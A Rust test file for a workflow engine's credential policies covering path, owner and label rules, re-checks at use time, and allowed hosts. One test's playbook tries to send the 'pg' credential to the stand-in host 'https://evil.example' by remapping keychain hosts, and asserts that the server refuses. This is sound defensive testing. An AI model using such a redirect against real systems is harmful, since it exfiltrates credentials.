//! Tests of the policies of credentials: who may use one, and where it may be sent.

use axum::http::Method;
use noetl_app::{AppSettings, DefaultPolicy};
use serde_json::{Value, json};

use super::{Server, TestSettings, settings};
use crate::{Authentication, Hosts};

/// Returns a playbook at a path whose step uses a credential by the input `db`.
fn playbook(path: &str) -> String {
    format!(
        "apiVersion: noetl.io/v2
kind: Playbook
metadata: {{name: it, path: {path}}}
workload: {{db: pg}}
workflow:
  - step: start
    tool: {{kind: postgres, auth: '{{{{ workload.db }}}}', query: select 1}}
"
    )
}

async fn put(server: &Server, name: &str, policy: Value) {
    let body = json!({
        "name": name, "type": "postgres", "data": { "password": "s3cr3t" }, "policy": policy,
    });
    let answer = server.post("/api/credentials", body).await;
    assert_eq!(answer.status, 200, "{}", answer.body);
}

async fn register(server: &Server, paths: &[&str]) {
    for path in paths {
        server.register(&playbook(path)).await;
    }
}

async fn start(server: &Server, actor: &str, body: Value) -> (String, Value) {
    let answer = server.post_as(actor, "/api/execute", body).await;
    let told = if answer.status == 200 { "200".to_owned() } else { answer.problem() };
    (told, answer.body)
}

const FORBIDDEN: &str = "403 credential-not-permitted";

pub(super) async fn an_execution_that_may_not_use_its_credentials_is_not_started(server: Server) {
    register(&server, &["team-a/one", "team-b/one"]).await;
    put(&server, "pg", json!({ "paths": ["team-a/*"] })).await;
    put(&server, "owned", json!({ "owners": ["ada"] })).await;
    put(&server, "labelled", json!({ "labels": ["env=test"] })).await;
    let (told, _) = start(&server, "eve", json!({ "path": "team-a/one" })).await;
    assert_eq!(told, "200");
    let (told, body) = start(&server, "eve", json!({ "path": "team-b/one" })).await;
    assert_eq!((told.as_str(), &body["credential"]), (FORBIDDEN, &json!("pg")));
    let owned = json!({ "path": "team-b/one", "payload": { "db": "owned" } });
    assert_eq!(start(&server, "ada", owned.clone()).await.0, "200");
    assert_eq!(start(&server, "eve", owned).await.0, FORBIDDEN);
    let unlabelled = json!({ "path": "team-b/one", "payload": { "db": "labelled" } });
    assert_eq!(start(&server, "ada", unlabelled.clone()).await.0, FORBIDDEN);
    let mut labelled = unlabelled;
    labelled["labels"] = json!({ "env": "test" });
    assert_eq!(start(&server, "ada", labelled).await.0, "200");
    let shown = server.get("/api/credentials/owned").await.body;
    assert_eq!(shown["policy"], json!({ "owners": ["ada"] }));
    let listed = server.get("/api/credentials?q=pg").await.body;
    assert_eq!(listed["items"][0]["policy"], json!({ "paths": ["team-a/*"] }));
}

#[tokio::test(start_paused = true)]
async fn reruns_forks_and_children_need_permission_too() {
    let server = Server::new();
    register(&server, &["team-b/one"]).await;
    server
        .register(
            "apiVersion: noetl.io/v2
kind: Playbook
metadata: {name: parent, path: team-b/parent}
workflow:
  - step: start
    tool: {kind: playbook, return_result: true, path: team-b/one}
",
        )
        .await;
    put(&server, "pg", Value::Null).await;
    let id = server.start("team-b/one").await;
    put(&server, "pg", json!({ "paths": ["team-a/*"] })).await;
    for path in ["rerun", "fork"] {
        let body = if path == "fork" { json!({ "at_event": 2 }) } else { json!({}) };
        let answer = server.post(&format!("/api/executions/{id}/{path}"), body).await;
        assert_eq!(answer.problem(), FORBIDDEN, "{path}");
    }
    let parent = server.start("team-b/parent").await;
    let ended = format!("/api/executions/{parent}?wait=5");
    let _waited = server.get(&ended).await;
    tokio::time::sleep(std::time::Duration::from_secs(5)).await;
    let detail = server.get(&format!("/api/executions/{parent}")).await.body;
    assert_eq!(detail["status"], "FAILED", "{detail}");
    assert!(detail.to_string().contains("may not use the credential `pg`"), "{detail}");
}

#[tokio::test(start_paused = true)]
async fn a_credential_is_checked_again_when_it_is_used() {
    let server = Server::new();
    register(&server, &["team-b/one"]).await;
    put(&server, "pg", Value::Null).await;
    let id = server.start("team-b/one").await;
    let ask = json!({ "worker": "w", "pool": "shared", "max": 1, "wait_ms": 5000 });
    let lease = server.post("/api/worker/lease", ask).await.body["leases"][0].clone();
    assert_eq!(lease["step"], "start", "{lease}");
    let path = format!("/api/credentials/pg?include_data=true&execution_id={id}");
    assert_eq!(server.get(&path).await.status, 200);
    put(&server, "pg", json!({ "paths": ["team-a/*"] })).await;
    assert_eq!(server.get(&path).await.problem(), FORBIDDEN);
    let trail = server.get("/api/internal/secret-audit?credential=pg").await.body;
    assert_eq!(trail["rows"][0]["outcome"], "not_permitted", "{trail}");
}

#[tokio::test(start_paused = true)]
async fn without_a_policy_the_default_decides() {
    let TestSettings { server, app } = settings(Authentication::Open, Hosts::Any);
    let app = AppSettings { policy_default: DefaultPolicy::Closed, ..app };
    let server = Server::set(TestSettings { server, app });
    register(&server, &["team-a/one"]).await;
    put(&server, "pg", Value::Null).await;
    assert_eq!(start(&server, "ada", json!({ "path": "team-a/one" })).await.0, FORBIDDEN);
    put(&server, "pg", json!({})).await;
    assert_eq!(start(&server, "ada", json!({ "path": "team-a/one" })).await.0, "200");
}

#[tokio::test(start_paused = true)]
async fn hosts_are_given_to_workers_that_keep_to_them() {
    let server = Server::new();
    register(&server, &["team-a/one"]).await;
    put(&server, "pg", json!({ "hosts": ["*.db.example:5432"] })).await;
    let id = server.start("team-a/one").await;
    let ask = json!({ "worker": "w", "pool": "shared", "max": 1, "wait_ms": 5000 });
    let lease = server.post("/api/worker/lease", ask).await.body["leases"][0].clone();
    let path = format!("/api/credentials/pg?include_data=true&execution_id={id}");
    assert_eq!(server.get(&path).await.problem(), FORBIDDEN, "an existing worker");
    let proof: noetl_api::LeaseProof = serde_json::from_value(json!({
        "execution": lease["execution"], "command": lease["command"], "attempt": lease["attempt"],
        "worker": "w", "secret": lease["secret"],
    }))
    .expect("a proof");
    let request = axum::http::Request::get(&path).header("x-noetl-lease", proof.to_string());
    let found = server.send(request.body(axum::body::Body::empty()).expect("a request")).await;
    assert_eq!(found.body["data"]["_hosts"], json!(["*.db.example:5432"]), "{}", found.body);
    let own = server.get("/api/credentials/pg?include_data=true").await.body;
    assert_eq!(own["data"], json!({ "password": "s3cr3t" }), "an administrator");
}

#[tokio::test(start_paused = true)]
async fn a_credential_that_is_set_again_keeps_its_policy() {
    let server = Server::new();
    put(&server, "pg", json!({ "paths": ["team-a/*"] })).await;
    let body = json!({ "name": "pg", "type": "postgres", "data": { "password": "new" } });
    let kept = server.post("/api/credentials", body).await.body;
    assert_eq!(kept["policy"], json!({ "paths": ["team-a/*"] }), "{kept}");
    put(&server, "pg", Value::Null).await;
    let shown = server.get("/api/credentials/pg").await.body;
    assert_eq!(shown.get("policy"), None, "{shown}");
}

#[tokio::test(start_paused = true)]
async fn an_entry_of_a_keychain_does_not_change_where_its_credential_is_sent() {
    let server = Server::new();
    server
        .register(
            "apiVersion: noetl.io/v2
kind: Playbook
metadata: {name: it, path: team-a/one}
keychain:
  - {name: moved, credential: pg, endpoint: 'https://evil.example', data: {_hosts: [evil.example]}}
  - {name: mapped, credential: pg, map: {_hosts: password, token: password}}
  - {name: read, map: {token: '{{ keychain.pg.password }}'}}
workflow:
  - step: start
    tool: {kind: http, url: 'https://evil.example', auth: moved}
",
        )
        .await;
    put(&server, "pg", json!({ "hosts": ["db.example"] })).await;
    let id = server.start("team-a/one").await;
    let ask = json!({ "worker": "w", "pool": "shared", "max": 1, "wait_ms": 5000 });
    let lease = server.post("/api/worker/lease", ask).await.body["leases"][0].clone();
    let proof: noetl_api::LeaseProof = serde_json::from_value(json!({
        "execution": lease["execution"], "command": lease["command"], "attempt": lease["attempt"],
        "worker": "w", "secret": lease["secret"],
    }))
    .expect("a proof");
    let of = |name: &'static str| {
        let path = format!("/api/credentials/{name}?include_data=true&execution_id={id}");
        let request = axum::http::Request::get(&path).header("x-noetl-lease", proof.to_string());
        server.send(request.body(axum::body::Body::empty()).expect("a request"))
    };
    for name in ["moved", "mapped"] {
        let found = of(name).await;
        assert_eq!(found.body["data"]["_hosts"], json!(["db.example"]), "{name} {}", found.body);
    }
    let read = of("read").await;
    assert!(read.body["detail"].to_string().contains("certain hosts only"), "{}", read.body);
}

#[tokio::test(start_paused = true)]
async fn an_invalid_policy_is_refused() {
    let server = Server::new();
    let many = vec!["a"; 101];
    for (policy, expected) in [
        (json!({ "hosts": ["http://a"] }), "422 invalid-body"),
        (json!({ "labels": ["x"] }), "422 invalid-body"),
        (json!({ "pathz": [] }), "422 invalid-body"),
        (json!({ "paths": [""] }), "422 credential-policy"),
        (json!({ "owners": many }), "422 credential-policy"),
    ] {
        let body = json!({ "name": "a", "type": "x", "data": {}, "policy": policy });
        let answer = server.call(Method::POST, "/api/credentials", body).await;
        assert_eq!(answer.problem(), expected, "{policy}");
    }
}
